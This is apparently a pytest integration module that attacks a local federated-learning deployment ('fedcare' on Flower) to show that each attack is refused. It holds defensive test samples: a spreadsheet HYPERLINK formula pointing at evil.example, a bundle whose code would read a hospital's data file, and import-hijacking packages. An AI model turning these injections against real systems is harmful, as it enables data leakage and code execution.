"""The trust boundary, attacked on one real federation on 127.0.0.1.

One deployment serves the whole module: a CA, the aggregator (nginx front,
SuperLink on loopback, executor) and three hospitals, each running Flower's
SuperNode in process isolation with a runtime secret and fedcare's worker beside
it. hospital-1 takes part only in runs it approved; hospital-2 in runs of at most
``MAX_ROUNDS`` rounds. Each test plays an attacker and shows the attempt fails and
leaves nothing behind. The tests run in order and share the deployment:

1. a task taken from a hospital's local runtime port without the secret is refused;
2. a run whose bundle ships code (it would write a marker file and read the data
   file), submitted by the operator, is refused by every hospital before anything
   of it is used; the refusals are in each hospital's audit log and in the report;
3. a hospital started from a folder holding ``client/`` and ``fedcare/`` packages
   never imports them;
4. a hospital that requires approval refuses a run it has not approved, and takes
   part once ``fedcare hospital approve HASH`` adds the hash the run printed;
5. an outsider holding only the public ``ca.crt`` and a fresh Flower home tries to
   register a node key, list the nodes, unregister a hospital, submit a run whose
   bundle carries code, and plain HTTPS requests to Control, Runtime and Flower's
   docs: the front refuses every one (404 from nginx); the SuperLink's Runtime API
   refuses a task without the runtime secret even on loopback; the hospitals' own
   run, submitted while the attacks go on, completes with every hospital, and the
   nodes and runs are as before;
6. a run outside a hospital's policy is refused by that hospital, and the report
   says why;
7. a registered hospital that replies under another hospital's name (a spreadsheet
   formula) is reported under its own registered name: what it claimed is never a
   name in the report, text it sent is quoted after its registered name, and no CSV
   cell can run;
8. a hospital removed with ``fedcare ca remove-hospital`` is refused at its next
   request, and cannot come back;
9. everything in the aggregator's state is owner-only, although the folder existed,
   world-readable, before the aggregator first started.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
import tomli_w

from fedcare.client.executor import runtime_client
from fedcare.client.site_settings import SiteSettings
from fedcare.server.aggregator_service import PROTOBUF
from fedcare.server.submission import app_pyproject
from fedcare.server.superlink import CONNECTION, HospitalRegistry, flwr_home
from fedcare.shared.audit import read_audit_log
from fedcare.shared.certificate_checks import https_status
from fedcare.shared.config.run_config import RunConfig
from fedcare.shared.flower_process import flower_environment, flower_executable
from fedcare.shared.hospital_credentials import generate_node_key
from fedcare.shared.keys import NodeConfigKey
from fedcare.shared.spreadsheet import FORMULA_STARTS
from fedcare.simulations.local_deployment import (
    LocalFederation,
    Processes,
    fedcare,
    free_port,
    start_local_federation,
    wait_for,
)

pytestmark = pytest.mark.integration

HOSPITALS = ("hospital-1", "hospital-2", "hospital-3")
ROGUE = "hospital-4"
POSED_AS = "hospital-2"
FORMULA = f'=HYPERLINK("https://evil.example/?leak","{POSED_AS}")'
MARKER = "fedcare-trust-marker"
MAX_ROUNDS = 1
"""hospital-2's policy: runs of at most this many rounds."""
ROUND_TIMEOUT = 90
"""Every one-round run uses it, so the run hospital-1 approved is the outsider-attacked one too."""
REFUSED_PATHS = (
    "/v1/control/list-runs",
    "/v1/control/list-nodes",
    "/v1/control/register-node",
    "/v1/control/start-run",
    "/v1/runtime/acquire-task",
    "/v1/runtime/pull-task-input",
    "/docs",
    "/openapi.json",
    "/health",
)


def _policies(name: str, site: dict[str, Any]) -> None:
    site["privacy"]["max-epsilon"] = 50.0  # room for every run here; budgets are not tested
    if name == "hospital-1":
        site["policy"] = {"require-approval": True}
    if name == "hospital-2":
        site["policy"] = {"max-rounds": MAX_ROUNDS}


def _open_state_folder(root: Path) -> None:
    # An aggregator state folder someone made by hand, world-readable, with a file in it.
    state = root / "aggregator"
    state.mkdir(mode=0o755)
    (state / "hospitals.json").write_text("{}\n")
    (state / "hospitals.json").chmod(0o644)


@pytest.fixture(scope="module")
def federation(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalFederation]:
    root = tmp_path_factory.mktemp("trust")
    _open_state_folder(root)
    processes = Processes(root / "logs")
    try:
        yield start_local_federation(root, processes, customize_site=_policies)
    finally:
        processes.stop_all()


def _summary(out: Path) -> dict[str, Any]:
    return json.loads((out / "summary.json").read_text())


def _audit(federation: LocalFederation, hospital: str) -> list[dict[str, Any]]:
    log = federation.root / hospital / "state" / "audit.jsonl"
    return [entry.fields | {"event": entry.event} for entry in read_audit_log(log)]


def _markers(federation: LocalFederation) -> list[Path]:
    return [*federation.root.rglob(f"{MARKER}*"), *Path("/tmp").glob(f"{MARKER}*")]


def _runtime_port(federation: LocalFederation, hospital: str) -> int:
    return int(tomllib.loads(federation.site(hospital).read_text())["hospital"]["runtime-port"])


def test_a_task_taken_without_the_runtime_secret_is_refused(federation: LocalFederation) -> None:
    from flwr.proto.runtime_pb2 import AcquireTaskRequest, PullTaskInputRequest

    address = f"127.0.0.1:{_runtime_port(federation, 'hospital-1')}"
    wait_for(lambda: _port_answers(address), timeout=120, what="hospital-1's runtime port")
    stranger = runtime_client(address)
    with pytest.raises(httpx.HTTPStatusError, match="401"):
        stranger.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))
    guesser = runtime_client(address, token="00" * 16)
    with pytest.raises(httpx.HTTPStatusError, match="401"):
        guesser.PullTaskInput(PullTaskInputRequest())


def _port_answers(address: str) -> bool:
    try:
        return httpx.get(f"http://{address}/health", timeout=2).status_code == 200
    except httpx.HTTPError:
        return False


def _code_bundle(federation: LocalFederation, out: Path, app: Path) -> Path:
    """Write to ``app`` a bundle that keeps fedcare's configuration but ships its own ClientApp.

    Its code would write a marker file and read hospital-1's data file.
    """
    names = HospitalRegistry(federation.state).as_setting()
    config = RunConfig.from_flat(
        {
            "contract": federation.contract.read_text(),
            "hospital-names": names,
            "out-dir": str(out),
            "num-server-rounds": 1,
            "round-timeout": 60.0,
        }
    )
    pyproject = app_pyproject(config, "0.1.0")
    pyproject["tool"]["flwr"]["app"]["components"]["clientapp"] = "client.client_app:app"
    (app / "client").mkdir(parents=True)
    (app / "pyproject.toml").write_text(tomli_w.dumps(pyproject))
    (app / "client" / "__init__.py").write_text("")
    marker = Path("/tmp") / f"{MARKER}-bundle"
    (app / "client" / "client_app.py").write_text(
        "import pathlib\n"
        f"pathlib.Path({str(marker)!r}).write_text('ran')\n"
        f"pathlib.Path({str(federation.root / 'data' / 'hospital-1.csv')!r}).read_text()\n"
        "from flwr.clientapp import ClientApp\napp = ClientApp()\n"
    )
    return app


def test_a_bundle_that_ships_code_is_refused_by_every_hospital(
    federation: LocalFederation,
) -> None:
    out = federation.root / "run-code"
    app = _code_bundle(federation, out, federation.root / "code-bundle")
    command = [flower_executable("flwr"), "run", str(app), CONNECTION, "--stream"]
    environment = flower_environment(flwr_home(federation.state))
    code = federation.processes.run("run-code", command, timeout=600, env=environment)
    assert code == 0, federation.processes.log("run-code")[-3000:]
    warnings = "\n".join(_summary(out)["warnings"])
    for hospital in HOSPITALS:
        assert re.search(rf"{hospital}: run \d+: the bundle holds files other than", warnings)
        refused = [e for e in _audit(federation, hospital) if e["event"] == "run-refused"]
        assert refused and refused[-1]["bundle"] is True
        assert "client/client_app.py" in refused[-1]["reason"]
        assert not list((federation.root / hospital / "state").rglob("client_app.py"))
    assert _markers(federation) == []


def test_a_hospital_started_beside_hostile_packages_never_imports_them(
    federation: LocalFederation,
) -> None:
    hostile = federation.root / "hostile-cwd"
    for package in ("client", "fedcare", "fedcare/client"):
        (hostile / package).mkdir(parents=True, exist_ok=True)
        marker = Path("/tmp") / f"{MARKER}-{package.replace('/', '-')}"
        (hostile / package / "__init__.py").write_text(
            f"import pathlib\npathlib.Path({str(marker)!r}).write_text('imported')\n"
        )
    (hostile / "client" / "client_app.py").write_text((hostile / "client/__init__.py").read_text())
    federation.processes.stop("hospital-3")
    federation.start_hospital("hospital-3", cwd=hostile)
    wait_for(
        lambda: "worker ready" in federation.processes.log("hospital-3"),
        timeout=120,
        what="hospital-3's worker to start from the hostile folder",
    )
    assert _markers(federation) == []


def _hash_printed(federation: LocalFederation, name: str) -> str:
    found = re.search(r"run configuration hash: ([0-9a-f]{64})", federation.processes.log(name))
    assert found, federation.processes.log(name)[-2000:]
    return found.group(1)


def test_an_unapproved_run_is_refused_until_the_hospital_approves_its_hash(
    federation: LocalFederation,
) -> None:
    run, out = federation.start_run("run-unapproved", rounds=1, timeout=ROUND_TIMEOUT)
    assert run.wait(timeout=600) == 0, federation.processes.log("run-unapproved")[-3000:]
    summary = _summary(out)
    config_hash = _hash_printed(federation, "run-unapproved")
    assert any("hospital-1" in w and config_hash in w for w in summary["warnings"])
    assert sorted(summary["privacy"]["per_hospital"]) == ["hospital-2", "hospital-3"]
    approve = fedcare(
        "hospital", "approve", config_hash, "--config", str(federation.site("hospital-1"))
    )
    assert federation.processes.run("approve", approve, timeout=120) == 0
    run, out = federation.start_run("run-approved", rounds=1, timeout=ROUND_TIMEOUT)
    assert run.wait(timeout=600) == 0, federation.processes.log("run-approved")[-3000:]
    assert _hash_printed(federation, "run-approved") == config_hash
    summary = _summary(out)
    assert summary["warnings"] == [] and sorted(summary["privacy"]["per_hospital"]) == list(
        HOSPITALS
    )
    runs = fedcare("hospital", "runs", "--config", str(federation.site("hospital-1")))
    assert federation.processes.run("runs-hospital-1", runs, timeout=120) == 0
    assert "took part" in federation.processes.log("runs-hospital-1")
    assert _markers(federation) == []  # hospital-3, started beside hostile packages, took part


def _operator_flwr(federation: LocalFederation, *arguments: str) -> dict[str, Any]:
    """Run ``flwr ... --format json`` as the operator on the aggregator host."""
    return _flwr(federation, flwr_home(federation.state), "fedcare", *arguments)


def _flwr(
    federation: LocalFederation, home: Path, connection: str, *arguments: str
) -> dict[str, Any]:
    name = f"flwr-{len(list((federation.root / 'logs').glob('flwr-*')))}"
    command = [flower_executable("flwr"), *arguments, connection, "--format", "json"]
    federation.processes.run(name, command, timeout=120, env=flower_environment(home))
    log = federation.processes.log(name)
    answer: dict[str, Any] = json.loads(log[log.index("{") :])
    return answer


def _nodes(federation: LocalFederation) -> dict[str, str]:
    answer = _operator_flwr(federation, "supernode", "ls")
    assert answer["success"], answer
    return {node["node-id"]: node["status"] for node in answer["nodes"]}


def _runs(federation: LocalFederation) -> list[str]:
    answer = _operator_flwr(federation, "ls")
    assert answer["success"], answer
    return sorted(str(run["run-id"]) for run in answer["runs"])


def _outsider(federation: LocalFederation) -> tuple[Path, Path]:
    """An outsider's Flower home dialling the public port, trusting only the public ca.crt."""
    folder = federation.root / "outsider"
    home = folder / "flwr-home"
    home.mkdir(parents=True)
    ca = folder / "ca.crt"
    ca.write_bytes((federation.ca / "ca.crt").read_bytes())
    connection = {
        "superlink": {
            "default": "public",
            "public": {"address": f"127.0.0.1:{federation.port}", "root-certificates": str(ca)},
        }
    }
    (home / "config.toml").write_text(tomli_w.dumps(connection))
    generate_node_key(folder / "key")
    return home, folder


def _attack(federation: LocalFederation) -> None:
    """Try every attack an outsider holding ``ca.crt`` has; each must be refused."""
    home, folder = _outsider(federation)
    out = folder / "run"
    hospital_1 = HospitalRegistry(federation.state).node_of("hospital-1")
    attempts = {
        "register a node key": ("supernode", "register", str(folder / "key" / "node.pub")),
        "list the nodes": ("supernode", "ls"),
        "unregister hospital-1": ("supernode", "unregister", str(hospital_1)),
        "submit a run carrying code": ("run", str(_code_bundle(federation, out, folder / "app"))),
    }
    for what, arguments in attempts.items():
        answer = _flwr(federation, home, "public", *arguments)
        assert answer["success"] is False, what
        assert "404 Not Found" in answer["error-message"], (what, answer)
    public, ca = f"127.0.0.1:{federation.port}", folder / "ca.crt"
    for path in REFUSED_PATHS:
        for method in ("GET", "POST"):
            status = https_status(public, path, ca, method=method, content_type=PROTOBUF)
            assert status == 404, (path, method, status)
    # The SuperLink itself: without the runtime secret nobody takes the ServerApp's task.
    internal = f"127.0.0.1:{federation.internal_port}"
    status = https_status(
        internal, "/v1/runtime/acquire-task", ca, method="POST", content_type=PROTOBUF
    )
    assert status == 401


def _taking_part(out: Path) -> dict[str, int]:
    """Each hospital of the run's last round, with its training rows."""
    last = json.loads((out / "metrics.json").read_text())["rounds"][-1]["hospitals"]
    return {name: hospital["num_train_examples"] for name, hospital in last.items()}


def test_an_outsider_is_refused_at_the_front_and_the_hospitals_run_completes(
    federation: LocalFederation,
) -> None:
    wait_for(
        lambda: sorted(_nodes(federation).values()) == ["online"] * 3,
        timeout=120,
        what="the three hospitals to be online",
    )
    nodes, runs = _nodes(federation), _runs(federation)
    # The run hospital-1 approved above, so every hospital takes part.
    run, out = federation.start_run("run-attacked", rounds=1, timeout=ROUND_TIMEOUT)
    _attack(federation)
    assert run.wait(timeout=420) == 0, federation.processes.log("run-attacked")[-3000:]
    summary = _summary(out)
    assert summary["status"] == "completed" and summary["rounds"]["aggregated"] == [1]
    assert summary["warnings"] == [] and summary["errors"] == []
    # The same run as the approved one without an attacker: who took part, with how
    # many rows, spending what (metrics themselves carry DP noise).
    unattacked = federation.root / "run-approved"
    assert _taking_part(out) == _taking_part(unattacked)
    assert summary["privacy"]["per_hospital"] == _summary(unattacked)["privacy"]["per_hospital"]
    assert _nodes(federation) == nodes
    assert len(_runs(federation)) == len(runs) + 1  # the operator's run, nobody else's
    # Every Control and Runtime request that reached the public port was refused by nginx.
    access = (federation.state / "front" / "access.log").read_text().splitlines()
    outside = [line for line in access if "/v1/control/" in line or "/v1/runtime/" in line]
    assert outside and all('" 404 ' in line for line in outside)
    assert _markers(federation) == []


def test_a_run_outside_a_hospitals_policy_is_refused_and_the_report_says_why(
    federation: LocalFederation,
) -> None:
    run, out = federation.start_run("run-long", rounds=MAX_ROUNDS + 1, timeout=ROUND_TIMEOUT)
    assert run.wait(timeout=900) == 0, federation.processes.log("run-long")[-3000:]
    warnings = "\n".join(_summary(out)["warnings"])
    assert f"hospital-2 refuses: the run has {MAX_ROUNDS + 1} rounds, above its limit" in warnings
    assert "hospital-1 refuses: it takes part only in approved runs" in warnings
    refused = [e for e in _audit(federation, "hospital-2") if e["event"] == "run-refused"]
    assert refused and "rounds" in refused[-1]["reason"]


def _rogue_node_config(federation: LocalFederation) -> Path:
    """hospital-4's node config, claiming to be a hospital-2 that is a spreadsheet formula."""
    folder = federation.root / ROGUE
    data = folder / "data.csv"
    folder.mkdir(exist_ok=True)
    pd.read_csv(federation.root / "data" / f"{POSED_AS}.csv").head(80).to_csv(data, index=False)
    site = {
        "hospital": {
            "name": ROGUE,
            "aggregator": f"127.0.0.1:{federation.port}",
            "credentials": "credentials",
            "data": str(data),
            "contract": str(federation.contract),
            "device": "cpu",
            "state": "state",
        },
        "privacy": {"max-epsilon": 50.0},
    }
    (folder / "site.toml").write_text(tomli_w.dumps(site))
    node_config = SiteSettings.load(folder / "site.toml").node.to_node_config()
    node_config[NodeConfigKey.HOSPITAL_NAME.value] = FORMULA
    (folder / "state").mkdir(exist_ok=True)
    path = folder / "node-config.toml"
    path.write_text(tomli_w.dumps(node_config))
    return path


def _could_run(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula (a negative number would not)."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


def test_a_registered_node_posing_as_another_hospital_is_reported_as_itself(
    federation: LocalFederation,
) -> None:
    credentials = federation.root / ROGUE / "credentials"
    node_config = _rogue_node_config(federation)
    federation.enrol_hospital(ROGUE, credentials)
    # A rogue hospital runs what it likes: plain Flower, which runs fedcare's ClientApp.
    command = [
        flower_executable("flower-supernode"),
        "--superlink",
        f"127.0.0.1:{federation.port}",
        "--root-certificates",
        str(credentials / "ca.crt"),
        "--auth-supernode-private-key",
        str(credentials / "node.key"),
        "--node-config",
        str(node_config),
        "--host",
        "127.0.0.1",
        "--port",
        str(free_port()),
    ]
    federation.processes.start(ROGUE, command, env=flower_environment(node_config.parent))
    wait_for(
        lambda: sorted(_nodes(federation).values()) == ["online"] * 4,
        timeout=120,
        what="the rogue node to be online",
    )
    run, out = federation.start_run("run-rogue", rounds=1, timeout=ROUND_TIMEOUT, hospitals=4)
    assert run.wait(timeout=420) == 0, federation.processes.log("run-rogue")[-3000:]
    federation.processes.stop(ROGUE)
    summary = _summary(out)
    assert summary["status"] == "completed"
    # hospital-1 did not approve this run (four hospitals: another hash) and refuses it.
    taking_part = ["hospital-2", "hospital-3", ROGUE]
    assert sorted(summary["privacy"]["per_hospital"]) == taking_part
    reported = json.loads((out / "metrics.json").read_text())["rounds"][-1]["hospitals"]
    assert sorted(reported) == taking_part
    assert reported[ROGUE]["num_train_examples"] != reported[POSED_AS]["num_train_examples"]
    # What it claimed is never a name: text it sent (a refusal quoting its claimed
    # name) is quoted only after its registered name, and no CSV cell can run.
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".json", ".jsonl", ".md"):
            for line in path.read_text().splitlines():
                assert "HYPERLINK" not in line or f"{ROGUE}: " in line, (path, line)
    for path in out.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(_could_run(cell) for cell in row), (path, row)
    table = csv.DictReader(io.StringIO((out / "metrics.csv").read_text()))
    scopes = [row["scope"] for row in table]
    assert scopes.count(POSED_AS) == 1 and ROGUE in scopes
    assert not any(scope.startswith(FORMULA_STARTS) for scope in scopes)


def test_a_removed_hospital_is_refused_at_its_next_request(federation: LocalFederation) -> None:
    node = HospitalRegistry(federation.state).node_of("hospital-3")
    assert node is not None and str(node) in _nodes(federation)
    remove = fedcare("ca", "remove-hospital", "hospital-3", "--dir", str(federation.ca))
    assert federation.processes.run("remove-hospital-3", remove, timeout=120) == 0
    assert "its next request is refused" in federation.processes.log("remove-hospital-3")
    assert _nodes(federation).get(str(node)) in (None, "unregistered")
    assert HospitalRegistry(federation.state).node_of("hospital-3") is None
    # Its SuperNode polls every 3 s: the next poll is refused, and it stops.
    wait_for(
        lambda: federation.processes.exited("hospital-3"),
        timeout=60,
        what="hospital-3 to be refused",
    )
    federation.start_hospital("hospital-3")
    wait_for(
        lambda: federation.processes.exited("hospital-3"),
        timeout=120,
        what="hospital-3 to be refused again",
    )
    assert _nodes(federation).get(str(node)) in (None, "unregistered")


def test_the_aggregators_state_is_owner_only(federation: LocalFederation) -> None:
    state = federation.state
    expected = {
        "superlink.db",
        "runtime.secret",
        "hospitals.json",
        "flwr-home/config.toml",
        "front/nginx.conf",
        "front/access.log",
    }
    present = {str(p.relative_to(state)) for p in state.rglob("*") if p.is_file()}
    assert expected <= present
    for path in [state, *state.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        assert not mode & 0o077, f"{path} is {oct(mode)}"
        if path.is_dir():
            assert mode == 0o700, path
    assert (state / "runtime.secret").stat().st_uid == os.geteuid()
